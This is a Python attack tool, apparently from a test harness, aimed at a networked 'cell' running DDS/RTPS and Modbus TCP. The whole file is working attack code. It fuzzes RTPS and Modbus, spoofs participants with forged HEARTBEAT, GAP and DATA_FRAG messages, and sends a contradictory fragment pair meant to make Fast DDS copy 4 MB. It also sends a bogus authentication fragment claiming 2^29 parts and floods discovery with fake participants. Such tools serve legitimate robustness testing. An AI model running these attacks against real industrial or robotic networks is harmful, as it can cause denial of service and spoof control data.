"""Attacks a cell from the network. This program runs in its own network namespace.

attack.py ports                        prints the open UDP and TCP ports of this namespace as JSON
attack.py capture FILE SECONDS         records each different UDP payload on the network to FILE
attack.py storm SECONDS RATE SEED KINDS TARGETS [FILE]
    KINDS      a comma-separated list: random, rtps (valid header, broken submessages), tcp, mutated (altered copies of FILE)
    TARGETS    JSON: {"udp": [[address, port], ...], "tcp": [...]}
attack.py forge FILE SECONDS TARGETS   sends HEARTBEATs, GAPs and DATA_FRAGs with the GUID of every participant in FILE, for every writer that it may have
attack.py crowd FILE SECONDS TARGETS   sends copies of the announcements in FILE, each for another participant that does not exist
Each attack prints as JSON how many packets of each kind it sent."""

import json
import os
import random
import select
import socket
import struct
import sys
import time

MULTICAST = "239.255.0.1"
# The kinds of submessages that RTPS 2.3 and DDS Security define.
KNOWN = (0x01, 0x06, 0x07, 0x08, 0x09, 0x0C, 0x0D, 0x0E, 0x0F, 0x12, 0x13, 0x15, 0x16, 0x30, 0x31, 0x32, 0x33, 0x34)
DATA, DATA_FRAG, HEARTBEAT, ACKNACK, GAP = 0x15, 0x16, 0x07, 0x06, 0x08
# The built-in readers and writers that every participant has.
BUILTIN = (0x000100C2, 0x000100C7, 0x000003C2, 0x000003C7, 0x000004C2, 0x000004C7, 0x000200C2, 0x000200C7, 0xFF0101C2, 0xFF0202C3,
           0x00000000)
# The writer of DDS Security's authentication messages, and such a message whose data claim 2^29 parts.
PROOF_WRITER = struct.pack(">I", 0x000201C3)
FALSE_PROOF = struct.pack("<I", 0x100) + bytes(96) + struct.pack("<II", 1, 0) + struct.pack("<I", 1 << 29)
EDGES = (0, 1, 2, 3, 4, 0x7F, 0x80, 0xFF, 0x7FFF, 0x8000, 0xFFFF, 0x7FFFFFFF, 0x80000000, 0xFFFFFFFE, 0xFFFFFFFF)


def open_ports():
    def read(name, state):
        found = set()
        with open("/proc/net/" + name) as file:
            for line in file.read().splitlines()[1:]:
                fields = line.split()
                if state in (None, fields[3]):
                    found.add(int(fields[1].rsplit(":", 1)[1], 16))
        return sorted(found)
    return {"udp": read("udp", None), "tcp": read("tcp", "0A")}


def capture(path, seconds):
    seen = set()
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.ntohs(0x0800)) as cable:
        cable.settimeout(0.1)
        end = time.monotonic() + seconds
        while time.monotonic() < end and len(seen) < 20000:
            try:
                packet = cable.recv(65535)
            except socket.timeout:
                continue
            ip = packet[14:]
            if ip[9] == 17:
                seen.add(ip[(ip[0] & 15) * 4 + 8:])
    with open(path, "wb") as file:
        for payload in sorted(seen):
            file.write(struct.pack("<I", len(payload)) + payload)
    return {"captured": len(seen)}


def read_captured(path):
    with open(path, "rb") as file:
        data = file.read()
    payloads = []
    while data:
        size = struct.unpack_from("<I", data)[0]
        payloads.append(data[4:4 + size])
        data = data[4 + size:]
    return payloads


class Thrower:
    def __init__(self, seed, payloads):
        self.r = random.Random(seed)
        self.payloads = payloads

    def number(self, order, code):
        bits = 8 * struct.calcsize(code)
        value = self.r.choice(EDGES) if self.r.random() < 0.6 else self.r.getrandbits(bits)
        return struct.pack(order + code, value & (2 ** bits - 1))

    def random(self):
        return self.r.randbytes(self.r.choice((0, 1, 3, 4, 19, 20, 21, 64, 512, 1472, self.r.randrange(1, 9000))))

    def entity(self):
        return struct.pack(">I", self.r.choice(BUILTIN) if self.r.random() < 0.9 else self.r.getrandbits(32))

    def parameters(self, order):
        """Returns a parameter list like those of discovery, with random lengths and contents."""
        data = b""
        for _ in range(self.r.randrange(0, 12)):
            # The ids of parameters that RTPS, DDS Security and vendors define, or a random id.
            number = self.r.choice((0x02, 0x05, 0x07, 0x0F, 0x15, 0x16, 0x1A, 0x1D, 0x2F, 0x30, 0x31, 0x32, 0x33, 0x34, 0x40, 0x44, 0x50, 0x52,
                                    0x58, 0x59, 0x5A, 0x60, 0x62, 0x70, 0x71, 0x72, 0x73, 0x75, 0x77, 0x1001, 0x1002, 0x8000, 0x8007,
                                    self.r.randrange(65536)))
            value = self.r.randbytes(4 * self.r.randrange(0, 10))
            if len(value) >= 4 and self.r.random() < 0.6:  # put a random count or length at the beginning of some values
                value = self.number(order, "I") + value[4:]
            size = len(value) if self.r.random() < 0.8 else self.r.choice(EDGES) & 0xFFFF
            data += struct.pack(order + "HH", number, size) + value
        return data + (struct.pack(order + "HH", 1, 0) if self.r.random() < 0.8 else b"")

    def submessage(self):
        kind = self.r.choice(KNOWN) if self.r.random() < 0.95 else self.r.randrange(256)
        flags = self.r.randrange(256) if self.r.random() < 0.3 else self.r.choice((0, 1, 2, 3, 4, 5, 7))
        order = "<" if flags & 1 else ">"
        number = lambda code: self.number(order, code)
        ids = self.entity() + self.entity()
        if kind in (DATA, DATA_FRAG):
            body = number("H") + struct.pack(order + "H", self.r.choice((16, 16, 16, 28, 0, 3, 0xFFFF))) + ids + number("I") + number("I")
            if kind == DATA_FRAG:
                body += number("I") + number("H") + number("H") + number("I")
            if flags & 2:
                body += self.parameters(order)
            body += bytes((0, self.r.randrange(5), 0, 0)) + (self.parameters(order) if self.r.random() < 0.7 else self.random()[:600])
        elif kind == HEARTBEAT:
            body = ids + number("I") * 2 + number("I") * 2 + number("I")
        elif kind in (ACKNACK, GAP):
            body = ids + number("I") + number("I") + number("I") + self.r.randbytes(self.r.randrange(0, 40))
        else:
            body = self.r.randbytes(self.r.randrange(0, 80))
        size = self.r.choice((len(body), len(body), len(body), 0, 1, len(body) + 4, 0xFFFF))
        return struct.pack(order + "BBH", kind, flags, size) + body

    def rtps(self):
        header = b"RTPS\x02" + bytes((self.r.choice((1, 2, 3, 4, 255)),)) + self.r.choice((b"\x01\x0f", b"\x01\x10", b"\0\0"))
        message = header + self.r.randbytes(12)
        for _ in range(self.r.randrange(1, 6)):
            message += self.submessage()
        return message[:self.r.randrange(20, 9000)]

    def mutated(self):
        packet = bytearray(self.r.choice(self.payloads))
        for _ in range(self.r.randrange(1, 6)):
            if not packet:
                break
            at = self.r.randrange(len(packet))
            how = self.r.randrange(6)
            if how == 0:
                packet[at] ^= 1 << self.r.randrange(8)
            elif how == 1:
                del packet[at:]
            elif how == 2:
                packet[at:at + 4] = self.number("<", "I")
            elif how == 3:
                del packet[at:at + self.r.randrange(1, 9)]
            elif how == 4:
                packet[at:at] = self.r.randbytes(self.r.randrange(1, 9))
            else:
                other = self.r.choice(self.payloads)
                packet[at:] = other[self.r.randrange(len(other) + 1):]
        return bytes(packet[:9000])

    def modbus(self):
        """Returns a frame of Modbus TCP, or random bytes."""
        if self.r.random() < 0.3:
            return self.random()
        body = bytes((1, self.r.choice((1, 2, 3, 4, 5, 6, 15, 16, 22, 23, 43, self.r.randrange(256))))) + self.r.randbytes(self.r.randrange(0, 260))
        return struct.pack(">HHH", self.r.getrandbits(16), self.r.choice((0, 0, 0, 1, 0xFFFF)),
                           self.r.choice((len(body), len(body), 0, 1, 0xFFFF))) + body


def sender(targets):
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(targets["from"]))
    return udp


def storm(seconds, rate, seed, kinds, targets, path):
    thrower = Thrower(seed, read_captured(path) if path else [])
    choice = random.Random(seed + 1)
    udp = sender(targets)
    udp.setblocking(False)
    sent = {kind: 0 for kind in kinds}
    refused = 0
    connections = []
    begin = time.monotonic()
    total = 0
    while time.monotonic() - begin < seconds:
        for _ in range(20):
            kind = choice.choice(kinds)
            if kind == "tcp":
                if len(connections) < 24 and choice.random() < 0.3:
                    one = socket.socket()
                    one.setblocking(False)
                    one.connect_ex(tuple(choice.choice(targets["tcp"])))
                    connections.append(one)
                if connections:
                    one = choice.choice(connections)
                    try:
                        one.send(thrower.modbus())
                        if choice.random() < 0.1:
                            raise OSError
                    except OSError:
                        one.close()
                        connections.remove(one)
            else:
                try:
                    udp.sendto(getattr(thrower, kind)(), tuple(choice.choice(targets["udp"])))
                except OSError:
                    refused += 1
                    continue
            sent[kind] += 1
            total += 1
        ahead = begin + total / rate - time.monotonic()
        if ahead > 0:
            select.select([], [], [], ahead)
    return {"sent": sent, "refused": refused, "seconds": round(time.monotonic() - begin, 1)}


def forged(kind, before, writer, after):
    """Returns a submessage of `writer` to all its readers. `before` and `after` are the bytes before and after the ids."""
    body = before + bytes(4) + writer + after
    return struct.pack("<BBH", kind, 1 if kind == DATA_FRAG else 3, len(body)) + body


def fragments(writer, count, size, sample, content=b"", number=1):
    """Returns a DATA_FRAG with the first `count` fragments of a sample that no writer has sent. It begins with `content`."""
    return forged(DATA_FRAG, struct.pack("<HH", 0, 28), writer,
                  struct.pack("<IIIHHI", 256, number, 1, count, size, sample) + content.ljust(count * size, b"\0"))


def forge(path, seconds, targets):
    """Sends unencrypted packets in the name of the members. HEARTBEATs claim that all samples up to number 2^40 are gone. Each GAP is for other
    numbers after a missing sample. Of two DATA_FRAGs, the second contradicts the first one, so that Fast DDS would copy 4 MB from it. A
    fragmented authentication message claims more parts than it has bytes."""
    names = {payload[8:20] for payload in read_captured(path) if payload[:4] == b"RTPS"}
    writers = [struct.pack(">I", number << 8 | kind) for number in range(1, 65) for kind in (2, 3)]
    udp = sender(targets)

    def send(name, content):
        for target in targets["udp"]:
            udp.sendto(b"RTPS\x02\x03\x01\x0f" + name + content, tuple(target))

    begin = time.monotonic()
    sent = 0
    while time.monotonic() - begin < seconds:
        for name in names:
            send(name, b"".join(forged(HEARTBEAT, b"", writer, struct.pack("<IIIII", 256, 0, 256, 0, 10 ** 6 + sent)) for writer in writers))
            start = 10 + (sent << 18)
            send(name, b"".join(forged(GAP, b"", writer, struct.pack("<IIIII", 256, start, 256, start + (1 << 18), 0)) for writer in writers))
            send(name, fragments(PROOF_WRITER, 2, 100, 200, FALSE_PROOF, 10 ** 6 + sent))
            for writer in writers if sent == 0 else ():
                send(name, fragments(writer, 1, 4000, 4_000_000))
                send(name, fragments(writer, 1000, 4, 4000))
        sent += 1
        time.sleep(0.05)
    return {"members": len(names), "sent": sent * len(targets["udp"])}


def crowd(path, seconds, targets):
    """Announces 1000 participants a second, each with an invented GUID prefix and a lease of 100 s."""
    lease = struct.pack("<HH", 0x02, 8)
    known = [p for p in read_captured(path) if p[:4] == b"RTPS" and struct.pack(">I", 0x000100C2) in p and lease in p]
    udp = sender(targets)
    begin = time.monotonic()
    sent = 0
    while time.monotonic() - begin < seconds:
        packet = random.choice(known)
        packet = packet.replace(packet[8:20], b"\x80" + random.randbytes(11))
        at = packet.index(lease) + 4
        packet = packet[:at] + struct.pack("<II", 100, 0) + packet[at + 8:]
        for target in targets["udp"]:
            udp.sendto(packet, tuple(target))
        sent += 1
        ahead = begin + sent / 1000 - time.monotonic()
        if ahead > 0:
            time.sleep(ahead)
    return {"announcements": len(known), "participants": sent}


def main():
    what, *arguments = sys.argv[1:]
    if what == "ports":
        print(json.dumps(open_ports()))
    elif what == "capture":
        print("ready", flush=True)
        print(json.dumps(capture(arguments[0], float(arguments[1]))))
    elif what in ("forge", "crowd"):
        path, seconds, targets = arguments
        print(json.dumps((forge if what == "forge" else crowd)(path, float(seconds), json.loads(targets))))
    else:
        os.nice(10)  # The attacker simulates another machine, so it must not take CPU time from the processes of the cell.
        seconds, rate, seed, kinds, targets, *path = arguments
        print(json.dumps(storm(float(seconds), float(rate), int(seed), kinds.split(","), json.loads(targets), path[0] if path else None)))


if __name__ == "__main__":
    main()
